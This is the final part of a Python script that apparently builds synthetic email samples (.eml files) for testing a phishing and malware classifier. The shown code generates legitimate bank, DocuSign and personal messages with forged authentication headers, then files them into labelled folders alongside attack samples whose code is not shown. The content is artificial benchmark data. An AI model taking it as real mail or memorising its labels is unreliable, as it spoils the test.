             "dse@docusign.net", "pass", [("pass", "docusign.net", "mail")], ("pass", "REJECT"), "docusign.net", country="AU")
    m.sender = [dkim_sig(m, "docusign.net", "mail", "From:To:Subject:Date:Reply-To:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://au.docusign.net/Signing/EmailStart.aspx?a={guid(name, 'a')}&etti=24&acct={acct}&er={guid(name, 'er')}"
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background:#eaeaea;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;"><tr><td align="center" style="padding:24px 0;">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,'Sans Serif';">
<tr><td style="padding:10px 24px;"><img src="https://au.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="padding:0 24px 30px;"><table width="100%" style="background:#1e4ca1;color:#ffffff;"><tr><td style="padding:28px 24px;text-align:center;font-size:16px;line-height:24px;">
<img src="https://au.docusign.net/member/Images/email/docInvite-white.png" width="75" alt=""><br>Ruby Chen sent you a document to review and sign.<br><br>
<a href="{link}" style="display:inline-block;background:#ffc423;color:#333333;font-size:15px;font-weight:bold;padding:0 24px;line-height:44px;border-radius:2px;text-decoration:none;">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px;font-size:16px;color:#333;line-height:22px;"><b>Ruby Chen</b><br><span style="color:#666;">ruby@tidewatertalent.com.au</span><br><br>
Hi Jess, as discussed here's the creator agreement for the Coastline Outdoors summer campaign. Let me know if anything needs tweaking before you sign. Thanks! Ruby</td></tr>
<tr><td style="padding:0 24px 24px;font-size:13px;color:#666;line-height:18px;"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit docusign.com, click 'Access Documents', and enter the security code:<br>{hx(name, 'code', 32, True)}2<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.</td></tr>
<tr><td style="padding:0 24px 24px;font-size:11px;color:#666;">This message was sent to you by Ruby Chen who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>
</table></td></tr></table></body></html>
"""
    m.headers = [
        "Reply-To: Ruby Chen <ruby@tidewatertalent.com.au>",
        "From: Ruby Chen via Docusign <dse@docusign.net>",
        f"To: Jess Morgan <{JESS}>",
        f"Message-ID: <{hx(name, 'mid', 32)}@docusign.net>",
        "Subject: Complete with Docusign: Saltwater Lens x Coastline Outdoors - Creator Agreement 2025.pdf",
        f"Date: {fmt(sent, -7)}",
        "MIME-Version: 1.0",
        f"X-Api-Host: au{num(name, 'api', 1, 3)}ap{num(name, 'api2', 10, 99)}",
        "X-DocuSign-Envelope-Id: " + env_id,
    ]
    m.body = html(htm, "utf-8", "quoted-printable")
    emit(m)


def l_hsbc_estatement() -> None:
    name = "b15-bulk-hsbc-hk-estatement-ready"
    t = T("2025-05-03 00:36:05")
    sent = t - timedelta(seconds=2)
    dom = "notification.hsbc.com.hk"
    m = Mail(name, "bulk",
             "Genuine HSBC Hong Kong 'your eStatement is ready' notice in Traditional Chinese and English from notification.hsbc.com.hk (DKIM, p=reject DMARC pass); no links by design, tells the customer to log on through the app or the address typed by hand",
             KELVIN, "gmail", t, (f"mail{num(name, 'm', 1, 9)}.{dom}", f"mail{num(name, 'm', 1, 9)}.{dom}", f"91.214.{num(name, 'ip', 4, 7)}.{num(name, 'ip2', 10, 250)}"),
             f"bounce@{dom}", "pass", [("pass", dom, "hsbc2024")], ("pass", "REJECT"), dom, country="HK")
    m.sender = [dkim_sig(m, dom, "hsbc2024", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    htm = """<html><head><meta charset="UTF-8"></head><body style="font-family:Arial,'Microsoft JhengHei',sans-serif;font-size:14px;color:#333;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:1px solid #ddd;"><img src="https://www.hsbc.com.hk/content/dam/hsbc/hk/images/email/hsbc-logo.png" width="120" alt="HSBC"></td></tr>
<tr><td style="padding:18px 0;line-height:1.8;">
<p>親愛的客戶：</p>
<p>閣下的綜合戶口電子結單（2025年4月）現已備妥。請登入HSBC HK手機理財應用程式，或於瀏覽器輸入 www.hsbc.com.hk 登入網上理財查閱。</p>
<p>滙豐不會透過電郵或短訊要求閣下提供登入資料、一次性密碼或戶口資料，亦不會在電郵內附上登入連結。</p>
<hr style="border:0;border-top:1px solid #eee;">
<p>Dear Customer,</p>
<p>Your Integrated Account eStatement for April 2025 is now ready. Please log on to the HSBC HK Mobile Banking app, or type www.hsbc.com.hk into your browser and log on to online banking to view it.</p>
<p>HSBC will never ask for your log-on details, one-time passwords or account information by email or SMS, and we will not include log-on links in our emails.</p>
<p style="font-size:11px;color:#777;">此乃自動發出的電郵，請勿回覆。 This is an automatically generated email, please do not reply.<br>
香港上海滙豐銀行有限公司 The Hongkong and Shanghai Banking Corporation Limited</p>
</td></tr></table></body></html>
"""
    m.headers = [
        f"From: {addr('HSBC 滙豐', 'hsbc@' + dom)}",
        f"To: {KELVIN}",
        f"Subject: {ew('您的電子結單已經備妥 Your eStatement is ready')}",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{digits(name, 'mid', 18)}.{hx(name, 'mid2', 8)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "UTF-8", "base64")
    emit(m)


def l_vpass_riyou() -> None:
    name = "b15-bulk-smbc-vpass-riyou-oshirase"
    t = T("2025-08-04 03:33:19")
    sent = t - timedelta(seconds=2)
    dom = "vpass.ne.jp"
    m = Mail(name, "bulk",
             "Genuine SMBC card usage notification ('ご利用のお知らせ') from statement@vpass.ne.jp with aligned DKIM and p=reject DMARC, ISO-2022-JP plain text listing a convenience-store purchase and pointing to the official Vpass app page",
             TAKUYA, "outlook", t, (f"mta{num(name, 'mta', 1, 9)}.{dom}", f"mta{num(name, 'mta', 1, 9)}.{dom}", "210.141.132.17"),
             f"statement-bounce@{dom}", "pass", [("pass", dom, "vp2021")], ("pass", "REJECT"), dom, country="JP")
    m.sender = [dkim_sig(m, dom, "vp2021", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    body = """西田 拓也 様

いつも三井住友カードをご利用頂きありがとうございます。
お客様のカードご利用内容をお知らせいたします。

ご利用カード：三井住友カード（ＮＬ）

◇利用日：2025/08/04 12:31
◇利用先：セブン－イレブン
◇利用取引：買物
◇利用金額：1,280円

ご利用内容の詳細は、Vpassアプリ・Vpassでご確認いただけます。
▼Vpassアプリについて
https://www.smbc-card.com/mem/vpass_app/index.jsp

※本メールはご利用の承認を行った時点での内容をお知らせしております。
※本メールは送信専用のため、ご返信いただいてもお答えできません。

■発行者■
三井住友カード株式会社
https://www.smbc-card.com/
"""
    m.headers = [
        f"From: {addr('三井住友カード', 'statement@' + dom, 'ISO-2022-JP')}",
        f"To: {TAKUYA}",
        f"Subject: {ew('ご利用のお知らせ【三井住友カード】', 'ISO-2022-JP')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <{digits(name, 'mid', 20)}.vpass@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = plain(body.replace("－", "−"), "iso-2022-jp", "7bit")
    emit(m)


# ===========================================================================
# LEGITIMATE - personal and business mail (clean)
# ===========================================================================


def l_agency_enquiry() -> None:
    name = "b15-legit-talent-agency-sponsorship-enquiry"
    t = T("2025-05-13 04:02:33")
    sent = t - timedelta(seconds=2)
    dom = "tidewatertalent.com.au"
    snd = f"ruby@{dom}"
    m = Mail(name, "clean",
             "Genuine sponsorship enquiry from a talent agency's Google Workspace mailbox (own DKIM, SPF, DMARC pass) with a plain PDF brief, realistic fee and deliverables, and a note that the contract will come separately through DocuSign",
             JESS, "m365", t, ("mail-pl1-f170.google.com", "mail-pl1-f170.google.com", "209.85.214.170"),
             snd, "pass", [("pass", dom, "google")], ("pass", "QUARANTINE"), dom, country="US")
    m.sender = [dkim_sig(m, dom, "google", "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", sent, expire=604800),
                f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={epoch(sent)}; x={epoch(sent) + 604800};\n"
                f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
                f"        bh={base64.b64encode(_digest(name, 'bh1e100')).decode()};\n        {fold_b64('b=' + sig(name, 'x1e100'), 66, 68, '        ')}",
                f"X-Gm-Message-State: AOJu0Y{b64(name, 'gms', 90)}",
                f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}",
                f"X-Received: by 2002:a17:902:{hx(name, 's1', 4)}:b0:{hx(name, 's2', 3)}:{hx(name, 's3', 4)}:{hx(name, 's4', 4)} with SMTP id\n"
                f"        d9443c01a7336-{hx(name, 's7', 10)}mr{digits(name, 's8', 7)}.{num(name, 's9', 10, 99)}.{digits(name, 's10', 13)};\n"
                f"        {fmt(sent, pacific(sent)[0], pacific(sent)[1])}"]
    brief = files.pdf([
        "Coastline Outdoors - Summer 2025/26 Creator Campaign",
        "Prepared by Tidewater Talent Co. for Saltwater Lens",
        "",
        "Campaign: 'Go Further This Summer' - new lightweight camp range",
        "Deliverables: 1 x Instagram Reel (45-60s), 3 x Stories with link sticker,",
        "              1 x carousel post (6-8 images)",
        "Usage: organic + 3 months paid usage on Meta",
        "Content window: 1 - 21 December 2025",
        "Fee: AUD 6,500 + GST, 50% on signing, 50% on delivery",
        "Product: full camp kit shipped to studio by 20 November",
        "",
        "Key messages: pack weight, quick pitch, made for WA coast trips",
        "Mandatories: #CoastlineOutdoors #ad, tag @coastlineoutdoors",
        "",
        "Contact: Ruby Chen, Senior Talent Manager, Tidewater Talent Co.",
    ], title="Coastline Outdoors Summer Brief")
    txt = """Hi Jess,

Hope the Ningaloo trip was as good as the stories made it look!

I'm reaching out on behalf of Coastline Outdoors - they're launching a new lightweight camping range this summer and you're at the top of their list for the WA leg of the campaign. I've attached a one-page brief with the details, but the headlines are:

- 1 x Reel, 3 x Stories and a carousel
- Content window 1-21 December
- AUD 6,500 + GST (50% on signing), plus 3 months paid usage on Meta
- Full kit shipped to you by 20 November

If the dates work for you, I'll send the creator agreement through DocuSign so you can review it properly - happy to adjust usage or deliverables if anything doesn't sit right.

Would you have 15 minutes for a call on Thursday or Friday?

Cheers,
Ruby

--
Ruby Chen
Senior Talent Manager | Tidewater Talent Co.
Level 2, 88 Beaufort Street, Perth WA 6000
+61 8 6117 2290
"""
    htm = "<div dir=\"ltr\">" + "".join(f"<div>{line if line else '<br>'}</div>" for line in txt.split("\n")) + "</div>\n"
    m.headers = [
        "MIME-Version: 1.0",
        f"From: Ruby Chen <{snd}>",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <CAB{b64(name, 'mid', 44)}@mail.gmail.com>",
        "Subject: Coastline Outdoors x Saltwater Lens - summer campaign",
        f"To: Jess Morgan <{JESS}>",
    ]
    m.body = mixed(f"000000000000{hx(name, 'bnd1', 16)}",
                   Multi("alternative", f"000000000000{hx(name, 'bnd2', 16)}", [plain(txt, "UTF-8", "7bit"), html(htm, "UTF-8", "quoted-printable")]),
                   Leaf("application/pdf", brief, "base64", '; name="Coastline_Outdoors_Summer_Brief_2025.pdf"',
                        'attachment; filename="Coastline_Outdoors_Summer_Brief_2025.pdf"',
                        [f"Content-ID: <f_m{tok(name, 'fid', 9)}0>", f"X-Attachment-Id: f_m{tok(name, 'fid', 9)}0"]))
    emit(m)


def l_jp_reunion_thunderbird() -> None:
    name = "b15-legit-jp-dousoukai-thunderbird"
    t = T("2024-09-18 11:47:06")
    sent = t - timedelta(seconds=2)
    snd = "s-oda@kbc.biglobe.ne.jp"
    m = Mail(name, "clean",
             "Personal mail between old classmates in ISO-2022-JP from Thunderbird on a BIGLOBE account (DKIM/DMARC pass): class reunion invitation with date, venue, fee and a restaurant page link; reply requested by mail",
             KENJI, "yjp", t, ("mail-sender.biglobe.ne.jp", "mail-sender.biglobe.ne.jp", "133.208.186.41"), snd, "pass",
             [("pass", "biglobe.ne.jp", "201912")], ("pass", "NONE"), "kbc.biglobe.ne.jp")
    m.sender = [dkim_sig(m, "biglobe.ne.jp", "201912", "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", sent, i="@kbc.biglobe.ne.jp"),
                f"Received: from [192.168.1.12] (fp76f0a512.osk{num(name, 'o', 1, 9)}.ap.nuro.jp [118.240.{num(name, 'ip', 1, 250)}.{num(name, 'ip2', 1, 250)}])\n"
                f"\tby mail-sender.biglobe.ne.jp (Postfix) with ESMTPSA id {hx(name, 'q', 10, True)}\n\tfor <{KENJI}>; {jst(sent)}"]
    body = """森本くん

ご無沙汰しています、小田です。
お元気ですか？

さて、久しぶりに3年2組のみんなで集まろうという話になり、
幹事をやることになりました。下記のとおり同窓会を開きますので、
ぜひ参加してください。

　日時：2024年11月9日（土）18時30分〜
　場所：串かつ とよ福 梅田店
　　　　大阪市北区曽根崎2丁目（お店のページ：https://tabelog.com/osaka/A2701/A270101/27099184/）
　会費：6,000円（当日集めます）

担任の川口先生にも声をかけていて、来てくださるそうです。

お手数ですが、出欠を10月15日までにこのメールへの返信で教えてください。
他の人の連絡先を知っていたら、それも教えてもらえると助かります。

では、会えるのを楽しみにしています。

--
小田 茂
s-oda@kbc.biglobe.ne.jp
"""
    m.headers = [
        f"Message-ID: <{guid(name, 'mid')}@kbc.biglobe.ne.jp>",
        f"Date: {jst(sent)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: ja",
        f"To: {addr('森本 健二', KENJI, 'ISO-2022-JP')}",
        f"From: {addr('小田 茂', snd, 'ISO-2022-JP')}",
        f"Subject: {ew('3年2組 同窓会のご案内（11月9日）', 'ISO-2022-JP')}",
    ]
    m.body = Leaf("text/plain", body.encode("iso-2022-jp"), "7bit", "; charset=ISO-2022-JP; format=flowed; delsp=yes")
    emit(m)


def l_kr_friends_naver() -> None:
    name = "b15-legit-kr-jeju-photos-naver"
    t = T("2024-10-07 12:22:41")
    sent = t - timedelta(seconds=2)
    snd = "minseo.kim0915@naver.com"
    m = Mail(name, "clean",
             "Personal mail in Korean from a friend's Naver account (naver.com DKIM/SPF/DMARC pass) sharing two trip photos as JPEG attachments and settling who owes what for the rental car",
             JIWOO, "gmail", t, (f"cvsmtppost{num(name, 'cv', 10, 60):03d}.nm.naver.com", f"cvsmtppost{num(name, 'cv', 10, 60):03d}.nm.naver.com", f"125.209.224.{num(name, 'ip', 200, 250)}"),
             snd, "pass", [("pass", "naver.com", "s20171208")], ("pass", "NONE"), "naver.com", country="KR")
    m.sender = [dkim_sig(m, "naver.com", "s20171208", "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:From:Subject:Date:To", sent),
                f"Received: from cweb{num(name, 'cw', 1, 30):03d}.nm.nfra.io ([10.{num(name, 'i', 1, 250)}.{num(name, 'i2', 1, 250)}.{num(name, 'i3', 1, 250)}])\n"
                f"  by cvsmtppost{num(name, 'cv', 10, 60):03d}.nm.naver.com with ESMTP id {b64(name, 'nid', 22, True)}\n  for <{JIWOO}>;\n  {fmt(sent, 0)}"]
    htm = """<div style="font-family:'나눔고딕',NanumGothic,sans-serif;font-size:10pt;"><p>지우야~</p>
<p>제주 사진 정리하다가 잘 나온 거 두 장 먼저 보내! 협재 해변에서 찍은 거 진짜 잘 나왔지? ㅋㅋ</p>
<p>나머지는 구글 포토 공유 앨범에 올려둘게.</p>
<p>그리고 렌터카랑 기름값 정산해보니까 1인당 78,500원이야. 토스로 보내주면 돼~ 급한 거 아니니까 천천히!</p>
<p>다음엔 가을에 강릉 가자 😊</p>
<p>민서</p></div>
"""
    txt = """지우야~

제주 사진 정리하다가 잘 나온 거 두 장 먼저 보내! 협재 해변에서 찍은 거 진짜 잘 나왔지? ㅋㅋ
나머지는 구글 포토 공유 앨범에 올려둘게.

그리고 렌터카랑 기름값 정산해보니까 1인당 78,500원이야. 토스로 보내주면 돼~ 급한 거 아니니까 천천히!

다음엔 가을에 강릉 가자 😊

민서
"""
    m.headers = [
        f"Message-ID: <{hx(name, 'mid', 32)}@cweb{num(name, 'cw', 1, 30):03d}.nm.nfra.io>",
        f"Date: {fmt(sent, 9)}",
        f"From: {addr('김민서', snd)}",
        f"To: {JIWOO}",
        f"Subject: {ew('제주 여행 사진 보내요 📷')}",
        "MIME-Version: 1.0",
        f"X-Naver-CIP: 211.36.{num(name, 'cip', 100, 160)}.{num(name, 'cip2', 1, 250)}",
        "X-Originating-IP: [10." + f"{num(name, 'i', 1, 250)}.{num(name, 'i2', 1, 250)}.{num(name, 'i3', 1, 250)}]",
    ]
    m.body = mixed(f"----=_Part_{num(name, 'p', 100000, 999999)}_{num(name, 'p2', 1000000, 9999999)}.{digits(name, 'p3', 13)}",
                   Multi("alternative", f"----=_Part_{num(name, 'pa', 100000, 999999)}_{num(name, 'pa2', 1000000, 9999999)}.{digits(name, 'pa3', 13)}",
                         [plain(txt, "UTF-8", "base64"), html(htm, "UTF-8", "base64")]),
                   attachment("image/jpeg", "IMG_20241003_163012.jpg", files.photo_jpeg(num(name, 'j1', 1, 40), (800, 600))),
                   attachment("image/jpeg", "IMG_20241003_171845.jpg", files.photo_jpeg(num(name, 'j2', 41, 80), (800, 600))))
    emit(m)


def l_jp_iphone_friend() -> None:
    name = "b15-legit-jp-ohanami-iphone-photo"
    t = T("2025-03-30 09:58:27")
    sent = t - timedelta(seconds=3)
    snd = "haruka.ueda@icloud.com"
    m = Mail(name, "clean",
             "Personal mail in Japanese sent from iPhone Mail on iCloud (icloud.com DKIM, SPF, DMARC pass) with one photo from a cherry-blossom picnic and a casual plan for next time",
             AIKO, "gmail", t, (f"st43p00im-ztfb1007{num(name, 'st', 1000, 9999)}.me.com", f"st43p00im-ztfb1007{num(name, 'st', 1000, 9999)}.me.com", f"17.58.63.{num(name, 'ip', 170, 190)}"),
             snd, "pass", [("pass", "icloud.com", "1a1hai")], ("pass", "QUARANTINE"), "icloud.com", country="US")
    m.sender = [dkim_sig(m, "icloud.com", "1a1hai", "Content-Type:Mime-Version:Subject:From:Date:Message-Id:To:x-icloud-hme", sent),
                f"Received: from smtpclient.apple (st43p00im-ztfb1007{num(name, 'st', 1000, 9999)}.me.com [17.58.63.{num(name, 'ip', 170, 190)}])\n"
                f"\tby st43p00im-ztfb1007{num(name, 'st', 1000, 9999)}.me.com (Postfix) with ESMTPSA id {hx(name, 'pf', 14, True)};\n\t{fmt(sent, 0)} (UTC)",
                "X-Proofpoint-ORIG-GUID: " + b64(name, "ppg", 32, True),
                "X-Proofpoint-GUID: " + b64(name, "ppg", 32, True)]
    bnd = f"Apple-Mail-{guid(name, 'bnd', True)}"
    txt = """愛子ちゃん

昨日はありがとう！お弁当すごく美味しかった〜
井の頭公園、思ったより混んでたけど桜ちょうど満開で最高だったね。

写真送るね。逆光だけど、これが一番みんな良い顔してた笑

来週末もし晴れたら、今度は目黒川の夜桜どうかな？
また連絡するね！

はるか

iPhoneから送信
"""
    m.headers = [
        f"From: {addr('上田 遥', snd)}",
        f"Mime-Version: 1.0 (1.0)",
        f"Date: {fmt(sent, 9)}",
        f"Subject: {ew('昨日はありがとう🌸')}",
        f"Message-Id: <{guid(name, 'mid', True)}@icloud.com>",
        f"To: {addr('田辺愛子', AIKO)}",
        "X-Mailer: iPhone Mail (22D82)",
    ]
    m.body = Multi("mixed", bnd, [
        plain(txt, "utf-8", "quoted-printable"),
        Leaf("image/jpeg", files.photo_jpeg(num(name, 'jpg', 1, 90), (1024, 768)), "base64", '; name="IMG_4821.jpeg";\n\tx-apple-part-url=' + guid(name, 'xap', True),
             'inline; filename="IMG_4821.jpeg"'),
        plain("\n", "us-ascii", "7bit"),
    ])
    emit(m)


def l_sg_freelancer_invoice() -> None:
    name = "b15-legit-sg-editor-invoice-pdf"
    t = T("2025-08-29 07:40:12")
    sent = t - timedelta(seconds=4)
    dom = "framebyframe.sg"
    snd = f"aisyah@{dom}"
    m = Mail(name, "clean",
             "Genuine monthly invoice from the channel's regular freelance video editor, sent from her Microsoft 365 domain (SPF/DKIM/DMARC pass) as a reply in the ongoing thread, PDF invoice with the same PayNow UEN as every month",
             PIXEL, "gmail", t, ("SG2PR04CU009.outbound.protection.outlook.com", "mail-southeastasiaazon11013042.outbound.protection.outlook.com", "52.101.133.42"),
             snd, "pass", [("pass", dom, "selector1")], ("pass", "NONE"), dom, country="SG")
    m.sender = o365_sender(m, sent, "TYZPR04", "apcprd04", dom, tz=8)
    inv = files.pdf([
        "FRAME BY FRAME STUDIO",
        "Nur Aisyah Binte Rahman  |  UEN 53412987K",
        "",
        "TAX INVOICE  INV-2025-031",
        "Date: 29 August 2025",
        "Bill to: Pixel Dumpling Pte. Ltd.",
        "",
        "August 2025 editing services",
        "  4 x long-form review edits (12-18 min)        SGD 2,400.00",
        "  6 x Shorts cut-downs                          SGD   540.00",
        "  Colour grade + thumbnails (4)                 SGD   260.00",
        "",
        "Total due                                       SGD 3,200.00",
        "",
        "Payment: PayNow to UEN 53412987K (FRAME BY FRAME STUDIO)",
        "Terms: 14 days",
    ], title="INV-2025-031")
    prev = f"<CAE{b64(name, 'prev', 44)}@mail.gmail.com>"
    txt = """Hi Ethan,

Attached is the invoice for August (INV-2025-031) - 4 long-form edits, 6 Shorts and the thumbnails. Same PayNow UEN as usual.

The ROG Xbox Ally review is in the shared drive now, 2nd cut with your notes from Tuesday applied. Let me know if the intro is still too long.

Thanks!
Aisyah

Nur Aisyah | Frame by Frame Studio
+65 9127 4408

________________________________
From: Ethan Goh <business@pixeldumpling.sg>
Sent: Thursday, August 28, 2025 6:02 PM
To: Nur Aisyah <aisyah@framebyframe.sg>
Subject: Re: August edits

Looks great, thanks Aisyah. Send the invoice through whenever you're ready.

Ethan
"""
    mid = o365_mid(m, "TYZPR04", "apcprd04")
    m.headers = [
        f"From: Nur Aisyah <{snd}>",
        f"To: Ethan Goh <{PIXEL}>",
        "Subject: Re: August edits",
        *ms_client_headers(m, "August edits", "en-SG", True),
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: {mid}",
        f"References: {prev}",
        f"In-Reply-To: {prev}",
        "MIME-Version: 1.0",
    ]
    m.body = mixed(f"_004_{mid.strip('<>').split('@')[0]}_",
                   plain(txt, "us-ascii", "quoted-printable"),
                   attachment("application/pdf", "INV-2025-031_PixelDumpling.pdf", inv))
    emit(m)


def l_jp_ceramics_sample() -> None:
    name = "b15-legit-jp-tougei-sample-hassou"
    t = T("2025-07-03 06:15:48")
    sent = t - timedelta(seconds=3)
    dom = "marumitsu-toki.co.jp"
    snd = f"tanaka@{dom}"
    m = Mail(name, "clean",
             "Genuine Japanese business mail from a pottery maker's PR staff (Sakura Internet hosting, SPF/DKIM/DMARC pass) confirming samples were shipped for an agreed collaboration, with a Yamato tracking number and the official Yamato tracking link",
             KUMO, "gmail", t, (f"www{num(name, 'w', 1000, 9999)}.sakura.ne.jp", f"www{num(name, 'w', 1000, 9999)}.sakura.ne.jp", f"153.126.{num(name, 'ip', 100, 250)}.{num(name, 'ip2', 2, 250)}"),
             snd, "pass", [("pass", dom, "rs20250101")], ("pass", "NONE"), dom, country="JP")
    m.sender = [dkim_sig(m, dom, "rs20250101", "From:Date:Subject:To:Message-ID:MIME-Version:Content-Type", sent),
                f"Received: from DESKTOP-M4K2T8P (p{digits(name, 'ocn', 7)}-ipxg{num(name, 'x', 10, 99)}s01gifu.gifu.ocn.ne.jp [153.175.{num(name, 'oc', 1, 250)}.{num(name, 'oc2', 1, 250)}])\n"
                f"\t(authenticated bits=0)\n\tby www{num(name, 'w', 1000, 9999)}.sakura.ne.jp (8.16.1/8.16.1) with ESMTPSA id {tok(name, 'sm', 14, ALNUM_MIX)}\n"
                f"\t(version=TLSv1.3 cipher=TLS_AES_256_GCM_SHA384 bits=256 verify=NO)\n\tfor <{KUMO}>; {jst(sent)}"]
    slip = f"4521{digits(name, 'slip', 8)}"
    body = f"""Kumo Kitchen
櫻井 芽衣 様

いつもお世話になっております。
丸光陶器の田中でございます。

先日はお打ち合わせのお時間をいただき、誠にありがとうございました。
ご相談させていただいておりました「しずく」シリーズのサンプルを、
本日ヤマト運輸にて発送いたしましたのでご連絡いたします。

　伝票番号：{slip[:4]}-{slip[4:8]}-{slip[8:]}
　お届け予定：7月4日（金）午前中
　内容：しずく 平皿 21cm（白・灰釉）各2枚、小鉢 2客、箸置き 4個

配送状況は下記よりご確認いただけます。
https://jizen.kuronekoyamato.co.jp/jizen/servlet/crjz.b.NQ0010?id={slip}

撮影スケジュールは、先日お話しした7月中旬で問題ございません。
器の取り扱いで気になる点がございましたら、お気軽にお申し付けください。

引き続きどうぞよろしくお願いいたします。

――――――――――――――――――
株式会社丸光陶器　広報・営業部
田中 恵美
〒507-0071 岐阜県多治見市旭ヶ丘8-24
TEL 0572-27-3316
https://www.{dom}/
――――――――――――――――――
"""
    m.headers = [
        f"From: {addr('田中 恵美', snd, 'ISO-2022-JP')}",
        f"To: {addr('Kumo Kitchen', KUMO)}",
        f"Subject: {ew('【丸光陶器】サンプル発送のご連絡（しずくシリーズ）', 'ISO-2022-JP')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <000001dbebd{hx(name, 'mid', 3)}${hx(name, 'mid2', 8)}${hx(name, 'mid3', 8)}@{dom}>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
        f"Thread-Index: {b64(name, 'ti', 32)}",
        "Content-Language: ja",
    ]
    m.body = plain(body, "iso-2022-jp", "7bit")
    emit(m)


# ===========================================================================
# main
# ===========================================================================

BUILDERS = [
    # attacks: Japan
    p_rakuten_card, p_smbc_vpass, p_mufg, p_aeon, p_jcb_qr, p_saison_html, p_paypay, p_aupay_compromised,
    p_amazon_jp, p_japanpost, p_sagawa, p_docomo, p_mercari, p_etc, p_etax,
    # attacks: Australia, Singapore, Hong Kong, Taiwan, Korea, India
    p_mygov, p_ato_pdf, p_linkt, p_auspost, p_commbank_callback, p_telstra_dropbox, p_agl,
    p_dbs, p_ocbc_gmail, p_singpost, p_iras, p_singpass_forms,
    p_hketoll, p_hsbc_school, p_fetc, p_naver, p_kakao, p_cj_logistics, p_sbi_kyc, p_itr_refund,
    # attacks: creators, gamers, crypto
    p_instagram_copyright, p_meta_salesforce, p_fb_page_access, p_sponsor_zip, p_sponsor_mega, p_sponsor_iso,
    p_tiktok_shop, p_discord_nitro, p_steam, p_metamask_sendgrid, p_ledger_exe, p_trezor_zendesk,
    p_coinbase_callback, p_adsense_sites, p_bec_bank_change,
    # legitimate: notifications and newsletters
    l_rakuten_statement, l_amazon_order, l_japanpost_delivered, l_docomo_bill, l_mercari_sold, l_dbs_alert,
    l_singpass_update, l_mygov_inbox, l_auspost_tracking, l_linkt_statement, l_instagram_login, l_youtube_claim,
    l_steam_receipt, l_coinbase_device, l_jp_newsletter, l_adsense_payment, l_docusign_envelope,
    l_hsbc_estatement, l_vpass_riyou,
    # legitimate: personal and business mail
    l_agency_enquiry, l_jp_reunion_thunderbird, l_kr_friends_naver, l_jp_iphone_friend, l_sg_freelancer_invoice,
    l_jp_ceramics_sample,
]


def _check(path: Path, data: bytes) -> list[str]:
    """Parse as a client would; report defects and undecodable parts."""
    problems = []
    msg = email.message_from_bytes(data, policy=policy.default)
    for part in msg.walk():
        for defect in part.defects:
            problems.append(f"{path.name}: part defect {defect!r}")
        if part.get_content_maintype() == "text":
            try:
                part.get_content()
            except Exception as exc:  # noqa: BLE001
                problems.append(f"{path.name}: cannot decode {part.get_content_type()}: {exc}")
    for key, value in msg.items():
        for defect in getattr(value, "defects", []):
            problems.append(f"{path.name}: header {key} defect {defect!r}")
    subject = str(msg["subject"] or "")
    if not subject or "=?" in subject:
        problems.append(f"{path.name}: subject did not decode: {subject!r}")
    for required in ("From", "To", "Date", "Message-ID", "Authentication-Results", "Received"):
        if msg[required] is None:
            problems.append(f"{path.name}: missing {required}")
    return problems



# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# legitimate notices between clean and bulk, and attacks that only link to a download (no dropper attached)
# under phishing, the folder for lures; malware/ keeps the messages that carry one.
REFILED = {
    "b15-bulk-docusign-creator-agreement": "clean",
    "b15-bulk-japanpost-haitatsu-kanryo": "clean",
    "b15-phish-beauty-sponsor-mega-brief": "phishing",
    "b15-phish-ledger-live-fake-update": "phishing",
}


def main() -> None:
    OUT.clear()
    for build in BUILDERS:
        build()
    names = [name for _, name, _, _ in OUT]
    assert len(names) == len(set(names)), "duplicate sample names"
    lines = []
    problems = []
    counts: dict[str, int] = {}
    for category, name, desc, data in OUT:
        category = REFILED.get(name, category)
        folder = MAIL / category
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{name}.eml"
        path.write_bytes(data)
        problems += _check(path, data)
        lines.append(f"samples/mail/{category}/{name}.eml | {category} | {desc}")
        counts[category] = counts.get(category, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = counts.get("phishing", 0) + counts.get("malware", 0)
    legit = counts.get("clean", 0) + counts.get("bulk", 0)
    for problem in problems:
        print("WARNING:", problem)
    print(f"blind15: {len(OUT)} messages written ({attacks} attacks, {legit} legitimate)")
    for category in ("phishing", "malware", "clean", "bulk"):
        print(f"  {category:9s} {counts.get(category, 0)}")
    print(f"manifest: {MANIFEST.relative_to(ROOT)}")


